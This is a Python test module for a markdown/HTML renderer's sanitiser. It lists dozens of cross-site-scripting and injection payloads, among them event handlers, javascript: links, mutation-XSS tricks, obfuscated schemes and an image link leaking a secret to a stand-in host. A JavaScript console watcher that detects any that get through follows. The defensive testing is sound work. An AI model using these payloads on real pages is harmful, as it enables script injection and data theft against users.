"""Texts that would run a script, load something or take over the page if any of them were obeyed.

Each would set `window.__x`, open a dialog, or ask another origin for something.
"""

ELSEWHERE = "http://elsewhere.example"
RUN = "window.__x=1"

MARKUP = [
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f"<script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"<ScRiPt\x0c>{RUN}</sCrIpT >",
    f"<script src={ELSEWHERE}/x.js></script>",
    f'<details open ontoggle="{RUN}">t</details>',
    f"<input autofocus onfocus={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN[7:]}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<base href="{ELSEWHERE}/"><a href="x">x</a>',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">',
    f"<style>@import url({ELSEWHERE}/x.css); * {{ background: url({ELSEWHERE}/y) }}</style>",
    f'<p style="background:url({ELSEWHERE}/z);position:fixed;inset:0">over all</p>',
    f'<svg><animate attributeName="href" values="javascript:{RUN}" /><a><text>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}>#x"/></svg>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<form action={ELSEWHERE}/f><button formaction=javascript:{RUN}>x</button>",
    f"<form id=getElementById><input name=querySelector><img name=body><a id=cookie href=x:{RUN}>",
    f"<template><script>{RUN}</script></template>{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
    f"<img src=x onerror={RUN}",
    f'<a href="{ELSEWHERE}" ping="{ELSEWHERE}/ping" onclick="{RUN}">x',
]
"""HTML in the text."""

LINKS = [
    f"[a](javascript:{RUN})",
    f"[b](JaVaScRiPt&colon;{RUN})",
    f"<javascript:{RUN}>",
    "[c](data:text/html,<script>opener.__x=1</script>)",
    f"[d](<java&Tab;script:{RUN}>)",
    f"[e](&#106;&#x61;vascript&#58;{RUN})",
    f'[f](\\javascript:{RUN} "t")',
    "[g](vbscript:msgbox(1))",
    f"[h](<\x01javascript:{RUN}>)",
    f"[i][bad]\n\n[bad]: javascript:{RUN}",
    f"[__proto__][__proto__] [constructor]\n\n[__proto__]: javascript:{RUN} 'x'",
    f"[j](ſcript:{RUN}) [k](javaſcript:{RUN}) [l](javascrıpt:{RUN})",
    f"![p]({ELSEWHERE}/leak?q=secret)",
    "![m](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feD0xPg==)",
    f"[![n](javascript:{RUN})](javascript:{RUN})",
    f'![o](x"onerror="{RUN})',
    f'[q](https://a.example/"onmouseover="{RUN}" \'a"onclick="{RUN}\')',
    f'www.a.example"onmouseover="{RUN} https://b.example/\'><img src=x onerror={RUN}>',
]
"""Markdown's own ways to an address."""

OTHERS = [
    f'```svg\n<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>\n```',
    "```html\n<script>parent.__x=1</script>\n```",
    f'```"><img/src=x/onerror={RUN}> {{style=color:red onclick={RUN}}}\nx\n```',
    f"```constructor:__proto__\n</code></pre><script>{RUN}</script>\n```",
    f"`<b>` stays text, and so does `</code><img src=x onerror={RUN}>`",
    f"| a | b |\n|:-:|--:|\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |",
    f'x[^"onclick={RUN}] y[^__proto__]\n\n[^"onclick={RUN}]: <img src=x onerror={RUN}>\n\n[^__proto__]: z',
    f"$\\href{{javascript:{RUN}}}{{x}} \\style{{color:red}}{{y}} \\text{{<img src=x onerror={RUN}>}} "
    "\\class{z}{w}$",
    f"$$\\def\\x{{\\x\\x}}\\x \\unicode{{<script>{RUN}</script>}} \\includegraphics{{{ELSEWHERE}/i}}$$",
    f'[["><img src=x onerror={RUN}>|javascript:{RUN}]] [[../../javascript:{RUN}]]',
    f"\u202egnp.{RUN}\u2066 [\u200bjava\u200dscript:{RUN}](java\u200bscript:{RUN}) \ufeff\u2069",
    f"- [ ] <input onfocus={RUN} autofocus>\n# <svg/onload={RUN}>\n> <body onload={RUN}>",
]
"""Code, tables, notes, formulas, wikilinks, and letters that are not seen."""

TEXTS = [*MARKUP, *LINKS, *OTHERS]

WATCH = """
(() => {
    const problem = (what) => console.error(`hostile: ${what}`);
    Object.defineProperty(window, "__x", { set: () => problem("a script ran"), get: () => undefined });
    addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
        problem(`the policy had to refuse ${violatedDirective} ${blockedURI}`);
    });
    const builtIn = new Set();
    for (let each = document; each; each = Object.getPrototypeOf(each)) {
        for (const name of Object.getOwnPropertyNames(each)) builtIn.add(name);
    }
    const NEVER = new Set((
        "script iframe frame object embed base meta link style template applet use animate set foreignobject "
        + "maction annotation-xml mglyph xmp plaintext"
    ).split(" "));
    const ATTRIBUTES =
        /^(on.*|style|srcdoc|formaction|action|ping|background|xlink:.*|http-equiv|manifest)$/i;
    const ADDRESSES = ["href", "src", "poster", "data", "cite", "srcset", "longdesc"];

    // What a script of the page sets by `element.style` is seen here too; a height takes over nothing.
    const isHeight = ({ name, value }, markdown) =>
        name === "style" && !markdown && /^(height: [\\d.]+px;)?$/.test(value);

    function faults(element, markdown) {
        const found = [];
        const name = element.localName.toLowerCase();
        if (NEVER.has(name)) found.push("an element");
        for (const attribute of element.attributes) {
            if (ATTRIBUTES.test(attribute.name) && !isHeight(attribute, markdown)) found.push(attribute.name);
            if (!["id", "name"].includes(attribute.name)) continue;
            if (markdown || builtIn.has(attribute.value)) found.push(`${attribute.name}=${attribute.value}`);
        }
        for (const attribute of ADDRESSES) {
            if (!element.hasAttribute(attribute)) continue;
            const url = new URL(element.getAttribute(attribute), location.href);
            const home = url.origin === location.origin;
            const picture = name === "img" && ["blob:", "data:"].includes(url.protocol);
            const link = name === "a" && ["http:", "https:", "mailto:"].includes(url.protocol);
            const guarded = element.target === "_blank" && element.relList?.contains("noopener");
            if (!home && !picture && !(link && guarded)) found.push(`${attribute} ${url}`);
        }
        if (markdown && ["form", "input", "textarea", "select", "video", "audio", "svg"].includes(name)) {
            found.push("an element of a form or of media");
        }
        return found.map((fault) => `${fault} in ${element.outerHTML.slice(0, 200)}`);
    }
    const inMarkdown = (element) => element.parentElement?.closest(".markdown");
    const look = (root, markdown) => [root, ...root.querySelectorAll("*")]
        .filter((each) => each instanceof Element)
        .flatMap((each) => faults(each, markdown || inMarkdown(each)));
    window.faultsOf = (text) => {
        const template = document.createElement("template");
        template.innerHTML = text;
        return look(template.content, true);
    };
    new MutationObserver((changes) => {
        if (document.readyState === "loading") return;
        for (const { target, type, addedNodes } of changes) {
            const changed = type === "attributes" ? [target] : [...addedNodes];
            for (const node of changed) {
                if (!(node instanceof Element) || !node.parentElement?.closest("body")) continue;
                const found = type === "attributes" ? faults(node, inMarkdown(node)) : look(node);
                found.forEach(problem);
            }
        }
    }).observe(document, { subtree: true, childList: true, attributes: true });
})();
"""
"""Speaks up in the console of a page about anything that got through, even for a moment."""
